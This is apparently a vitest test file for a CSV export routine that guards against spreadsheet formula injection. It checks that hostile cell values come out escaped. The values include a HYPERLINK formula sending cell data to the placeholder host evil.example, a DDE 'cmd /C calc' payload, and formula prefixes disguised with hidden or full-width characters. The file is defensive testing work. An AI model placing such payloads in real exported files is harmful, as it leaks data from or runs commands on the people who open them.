/** Threat: a company's name that a manager's spreadsheet runs. */
import { parse } from 'csv-parse/sync';
import { describe, expect, it, test } from 'vitest';
import { csvCell, csvLine } from './csv.ts';

/** What a hostile form may hold; each must be a text to whoever opens the file. */
const FORMULAS = [
  `=HYPERLINK("http://evil.example?x="&A1,"klik")`,
  `=cmd|' /C calc'!A0`,
  '+62 811 0000 0001',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0007=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' \t＝1+1',
];
const PLAIN = [
  'PT Maju',
  'a=b',
  '1-2',
  'sari@example.com',
  "O'Brien",
  '',
  ' spaced ',
  'x\ty',
  'kopi "tubruk"',
  'a,b;c',
  'l1\r\nl2',
];

const readBack = (text: string): string[][] => parse(text, { relaxColumnCount: true });

describe('a cell', () => {
  test.each(FORMULAS)('%j is shown, not run', (text) => {
    expect(readBack(csvLine([text, 'next']))).toEqual([[`'${text}`, 'next']]);
    expect(csvCell(text)).toMatch(/^"?'/);
  });

  it('of the corpus: twenty', () => expect(new Set(FORMULAS).size).toBe(20));

  test.each(PLAIN)('%j comes back as it was', (text) => expect(readBack(csvLine([text, 'n']))).toEqual([[text, 'n']]));

  it('that is a number of ours stays one, and nothing is nothing', () => {
    expect(csvLine([-5, 0, 1.5, null, '-5'])).toBe(`-5,0,1.5,,'-5\r\n`);
  });

  it('is quoted where a comma is a decimal sign, too', () => {
    expect(csvLine(['a;b', 'c\td', 'plain'])).toBe('"a;b","c\td",plain\r\n');
  });
});
